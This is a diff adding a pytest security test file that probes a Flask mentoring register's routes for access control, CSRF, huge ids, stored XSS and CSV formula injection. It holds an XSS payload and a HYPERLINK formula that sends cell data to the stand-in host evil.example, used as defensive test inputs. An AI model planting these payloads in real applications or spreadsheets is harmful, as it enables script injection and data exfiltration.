@@ -1,0 +1,316 @@
+"""An outside attacker's probe of the whole register, route by route.
+
+Every route in `app.url_map` is listed here and tried as an attacker would: by
+someone logged out, by a third person, by a mentee on the mentor's private parts,
+by a non-administrator on the coordinators' pages; every POST without its CSRF
+token; huge ids and NUL bytes; markup typed into every free-text field and looked
+for on every page and email that shows it; formula cells in every CSV; signed
+links replayed, swapped, tampered and expired; contact details before acceptance;
+open redirects; and the limits on forms that send email. docs/security.md says
+which test shows what.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import timedelta
+
+import pytest
+from flask import url_for
+from sqlalchemy import select, update
+
+from register.auth.models import User
+from register.database import utcnow
+from register.extensions import db
+from register.matching import services as matching
+from register.mentors.models import MentorProfile
+from register.mentorships import services
+from tests.conftest import Browser
+from tests.test_introductions import draft, make_mentor, send_request  # noqa: F401
+from tests.test_mentorships import (  # noqa: F401
+    MENTEE,
+    MENTOR,
+    agreement_draft,
+    in_app,
+    meeting_draft,
+    mentorship,
+    pair,
+    path_of,
+    person,
+)
+
+XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+HUGE = "99999999999999999999999"
+
+# Every route the register serves, by who may use it. A new route fails
+# test_every_route_is_in_the_probe until it is added here and so probed.
+PUBLIC = {"main.index", "main.accessibility", "main.contact", "main.privacy", "main.healthz",
+          "main.readyz", "static", "search.results", "mentors.profile",
+          "auth.login", "auth.register", "auth.forgot_password", "auth.check_email",
+          "auth.validate_signup_field", "auth.logout", "auth.reset_password",
+          "auth.verify_email", "auth.resend_verification", "auth.claim_account",
+          "auth.cancel_email_change", "auth.confirm_email_change",
+          "introductions.answer_by_email", "mentorships.check_in",
+          "mentorships.evaluate_by_link"}
+OWN = {"auth.account", "auth.delete_account", "auth.change_email", "auth.change_password",
+       "auth.log_out_everywhere", "auth.end_chosen_sessions", "mentorships.mine",
+       "mentorships.portfolio", "mentorships.record", "mentorships.record_csv",
+       "matching.objectives", "matching.suggested", "mentors.edit_profile",
+       "mentors.pause_profile", "mentors.preview_profile", "mentors.resume_profile",
+       "mentors.submit_profile", "introductions.inbox", "mentors.report",
+       "introductions.compose", "introductions.live_preview"}
+PARTIES = {"mentorships.show", "mentorships.agreement", "mentorships.agree",
+           "mentorships.close", "mentorships.evaluation", "mentorships.cancel",
+           "mentorships.move", "mentorships.record_meeting", "mentorships.plan",
+           "mentorships.add_note", "mentorships.reflection", "mentorships.meeting_ics",
+           "introductions.show", "introductions.accept", "introductions.decline",
+           "introductions.withdraw"}
+ADMIN = {"admin.dashboard", "admin.audit_log", "admin.import_upload", "admin.import_preview",
+         "admin.import_confirm", "admin.moderation", "admin.resolve_report", "admin.profiles",
+         "admin.profile", "admin.moderate", "admin.decide", "admin.mark_reviewed",
+         "admin.queue", "matching.queue", "matching.mentee", "matching.propose",
+         "matching.pairings", "matching.send_pairings", "mentorships.settings",
+         "reports.figures", "reports.download"}
+
+
+@pytest.fixture
+def world(app, pair, make_user, mailbox):  # noqa: F811
+    """A register under attack: an agreed, active pair with a meeting and notes; a closed
+    pair with its evaluation links; a mentee waiting for matching; a stranger; an admin."""
+    mentor, mentee, mid = pair(kind="formal")
+    make_user("stranger@example.org", name="Sam Stranger")
+    make_user("admin@example.org", name="Ann Admin", admin=True)
+
+    def setup():
+        proposal = services.propose_agreement(mentorship(mid), by=person(mentee),
+                                              draft=agreement_draft())
+        services.agree(proposal, by=person(mentor))
+        meeting = services.plan_meeting(mentorship(mid), by=person(mentee),
+                                        draft=meeting_draft())
+        services.add_private_note(mentorship(mid), by=person(mentor),
+                                  body="Mentor's private worry about the mentee")
+        return proposal.id, meeting.id
+
+    agreement_id, meeting_id = in_app(app, setup)
+    other_mentor, other_mentee, closed_id = pair()
+    in_app(app, lambda: services.close(mentorship(closed_id), by=person(other_mentee),
+                                       reason="goals_met"))
+    mailbox.deliver()
+    links = {"mentee": path_of(mailbox.link_to(other_mentee.email, "/mentorships/evaluation/")),
+             "mentor": path_of(mailbox.link_to(other_mentor.email, "/mentorships/evaluation/"))}
+    return dict(mentor=mentor, mentee=mentee, mid=mid, agreement_id=agreement_id,
+                meeting_id=meeting_id, closed_id=closed_id, other_mentor=other_mentor,
+                other_mentee=other_mentee, evaluation_links=links)
+
+
+def as_person(app, email) -> Browser:
+    person_ = Browser(app.test_client())
+    assert person_.log_in(email).status_code == 302
+    return person_
+
+
+def example_path(app, rule, world) -> str:
+    """The rule with real ids of the active pair (or 1 where nothing fits)."""
+    values = {"mentorship_id": world["mid"], "meeting_id": world["meeting_id"],
+              "agreement_id": world["agreement_id"], "profile_id": 1, "request_id": 1,
+              "user_id": 1, "batch_id": 1, "report_id": 1, "key": "requests",
+              "token": "x", "field": "email", "answer": "met", "action": "accept",
+              "filename": "css/site.css"}
+    for name, converter in rule._converters.items():
+        if hasattr(converter, "items"):  # any(...): its first choice
+            values[name] = sorted(converter.items)[0]
+    with app.test_request_context():
+        return url_for(rule.endpoint, **{k: values[k] for k in rule.arguments})
+
+
+def test_every_route_is_in_the_probe(app):
+    endpoints = {rule.endpoint for rule in app.url_map.iter_rules()}
+    assert endpoints - (PUBLIC | OWN | PARTIES | ADMIN) == set(), "probe the new routes"
+
+
+def test_logged_out_visitors_reach_nothing_private(app, world, client):
+    for rule in app.url_map.iter_rules():
+        if rule.endpoint in PUBLIC:
+            continue
+        path = example_path(app, rule, world)
+        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
+            response = client.open(path, method=method)
+            assert response.status_code in (302, 400, 401, 403, 404), (method, path,
+                                                                        response.status_code)
+            if response.status_code == 302:
+                assert "/auth/login" in response.headers["Location"], path
+
+
+def test_a_third_person_and_a_non_admin_get_refused_everywhere(app, world):
+    stranger = as_person(app, "stranger@example.org")
+    mentee = as_person(app, MENTEE)
+    for rule in app.url_map.iter_rules():
+        if rule.endpoint not in PARTIES | ADMIN:
+            continue
+        path = example_path(app, rule, world)
+        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
+            got = (stranger.get(path) if method == "GET" else stranger.post(path))
+            assert got.status_code in (403, 404), (method, path, got.status_code)
+            if rule.endpoint in ADMIN:
+                # A party to a mentorship is no coordinator either.
+                got = mentee.get(path) if method == "GET" else mentee.post(path)
+                assert got.status_code in (403, 404), (method, path, got.status_code)
+    # The mentor's private note never reaches the mentee (nor the coordinators).
+    page = mentee.get(f"/mentorships/{world['mid']}").get_data(as_text=True)
+    assert "private worry" not in page
+    admin = as_person(app, "admin@example.org")
+    assert "private worry" not in admin.get(f"/mentorships/{world['mid']}").get_data(
+        as_text=True)
+
+
+def test_every_post_needs_its_csrf_token(app, world):
+    admin = as_person(app, "admin@example.org")
+    mentee = as_person(app, MENTEE)
+    for rule in app.url_map.iter_rules():
+        if "POST" not in rule.methods:
+            continue
+        path = example_path(app, rule, world)
+        who = admin if rule.endpoint in ADMIN else mentee
+        refused = who.post(path, {"body": "note", "reason": "goals_met"}, csrf=False)
+        assert refused.status_code in (400, 403, 404, 410), (path, refused.status_code)
+        if rule.endpoint in ("mentorships.add_note", "mentorships.plan"):
+            assert refused.status_code == 400, path
+
+
+@pytest.mark.parametrize("path", [
+    f"/mentorships/{HUGE}", f"/mentorships/{HUGE}/agreement", f"/meetings/{HUGE}.ics",
+    f"/mentorships/1/meetings/{HUGE}/move", f"/admin/matching/{HUGE}",
+    f"/requests/{HUGE}", f"/mentors/{HUGE}", f"/admin/profiles/{HUGE}",
+    f"/mentorships/1/agreement/{HUGE}/agree",
+])
+def test_huge_ids_are_not_found(app, world, path):
+    admin = as_person(app, "admin@example.org")
+    assert admin.get(path).status_code in (404, 405)
+    assert admin.post(path).status_code in (404, 405)
+
+
+# Stored markup, on every page and email that shows it ------------------------------------
+
+
+def test_markup_typed_anywhere_new_shows_as_text(
+        app, pair, make_user, browser, mailbox, make_mentor):  # noqa: F811
+    mentor, mentee, mid = pair(kind="formal")
+    make_user("admin@example.org", name="Ann Admin", admin=True)
+    waiting = make_user("waiting@example.org", name="Wendy Waiting")
+    _, spare_profile = make_mentor("spare.mentor@example.org", capacity=3)
+
+    def plant():
+        proposal = services.propose_agreement(
+            mentorship(mid), by=person(mentee),
+            draft=agreement_draft(goals=[XSS], confidentiality=XSS))
+        services.agree(proposal, by=person(mentor))
+        meeting = services.plan_meeting(mentorship(mid), by=person(mentee),
+                                        draft=meeting_draft(agenda=XSS, place=XSS))
+        services.add_private_note(mentorship(mid), by=person(mentor), body=XSS)
+        wants = matching.save_objectives(person(waiting), matching.ObjectivesDraft(
+            objectives=[XSS], knowing=["how"], location=XSS, facilitated=True))
+        matching.propose(wants, db.session.get(MentorProfile, spare_profile),
+                         by=db.session.scalar(select(User).where(User.is_admin.is_(True))),
+                         note=XSS)
+        return meeting.id
+
+    meeting_id = in_app(app, plant)
+    with app.app_context():
+        db.session.execute(update(services.Meeting).where(services.Meeting.id == meeting_id)
+                           .values(starts_at=utcnow() - timedelta(hours=2)))
+        db.session.commit()
+    in_app(app, lambda: services.record_meeting(services.db.session.get(
+        services.Meeting, meeting_id), by=person(mentor), held=True, notes=XSS, actions=XSS))
+    in_app(app, lambda: services.close(mentorship(mid), by=person(mentee), reason="other",
+                                       note=XSS))
+    in_app(app, lambda: services.save_reflection(mentorship(mid), by=person(mentee),
+                                                 draft=services.ReflectionDraft(learned=XSS)))
+    in_app(app, lambda: services.submit_evaluation(mentorship(mid), by=person(mentor),
+                                                   draft=services.EvaluationDraft(
+                                                       usefulness=4, would_recommend=True,
+                                                       goals_met=4, what_changed=XSS,
+                                                       mentor_gained=XSS)))
+    pages = {MENTOR: [f"/mentorships/{mid}", "/me/mentoring-record", "/me/mentorships",
+                      f"/mentorships/{mid}/evaluation", "/me/requests"],
+             MENTEE: [f"/mentorships/{mid}", f"/mentorships/{mid}/reflection", "/me/mentors",
+                      f"/mentorships/{mid}/agreement"],
+             "waiting@example.org": ["/me/objectives", "/mentors/suggested", "/me/requests"],
+             "spare.mentor@example.org": ["/me/requests"],
+             "admin@example.org": [f"/mentorships/{mid}", "/admin/matching",
+                                   f"/admin/matching/{waiting.id}", "/admin/matching/pairings",
+                                   "/admin/reports", "/admin/mentorships/settings",
+                                   "/admin/audit"]}
+    for email, paths in pages.items():
+        visitor = as_person(app, email)
+        for path in paths:
+            page = visitor.get(path, follow_redirects=True)
+            assert page.status_code == 200, (email, path)
+            assert "<script>alert" not in page.get_data(as_text=True), (email, path)
+            assert "<img src=x" not in page.get_data(as_text=True), (email, path)
+    # The calendar file is a download, never a page a browser would draw.
+    ics = as_person(app, MENTOR).get(f"/meetings/{meeting_id}.ics")
+    assert ics.mimetype == "text/calendar"
+    assert ics.headers["Content-Disposition"].startswith("attachment")
+    mailbox.deliver()
+    assert mailbox.received
+    for message in mailbox.received:
+        if message.html:
+            assert "<script>alert" not in message.html, message.subject
+            assert "<img src=x" not in message.html, message.subject
+
+
+# Formula cells in every CSV ---------------------------------------------------------------
+
+
+def cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_no_csv_download_starts_a_cell_with_a_formula(
+        app, make_user, make_mentor, send_request, browser):  # noqa: F811
+    _, profile_id = make_mentor("ada.mentor@example.org", name="Ada Mentor", capacity=10)
+    make_user("admin@example.org", admin=True)
+    for prefix in ("=", "+", "-", "@", " =", "\t="):
+        mentee = make_user(name=prefix + 'HYPERLINK("http://evil.example","x")')
+        request_id = send_request(mentee, profile_id)
+        in_app(app, lambda r=request_id: services_accept(r))
+    for query in (FORMULA, "-2+3", "@SUM(A1)"):
+        browser.get("/mentors", query_string={"q": query})
+    with app.app_context():
+        from register.search import stats
+        stats.flush()
+    mentor = as_person(app, "ada.mentor@example.org")
+    record = mentor.get("/me/mentoring-record.csv")
+    assert record.status_code == 200
+    assert len(cells(record.get_data(as_text=True))) > 6
+    downloads = [record.get_data(as_text=True)]
+    admin = as_person(app, "admin@example.org")
+    with app.test_request_context():
+        from register.reports import services as reports
+        keys = [t.key for t in reports.figures(*_this_year()).tables()]
+    for key in keys:
+        got = admin.get(f"/admin/reports/{key}.csv")
+        assert got.status_code == 200, key
+        downloads.append(got.get_data(as_text=True))
+    for text in downloads:
+        for cell in cells(text):
+            if re.fullmatch(r"-?\d+(\.\d+)?", cell):
+                continue  # a number is a number
+            assert not cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")), cell
+
+
+def services_accept(request_id):
+    from register.introductions import services as introductions
+    return introductions.accept(db.session.get(introductions.IntroRequest, request_id),
+                                by=db.session.get(introductions.IntroRequest,
+                                                  request_id).profile.user)
+
+
+def _this_year():
+    from register.reports import services as reports
+    now = utcnow()
+    period, _ = reports.period_from({}, now.date())
+    return period, now
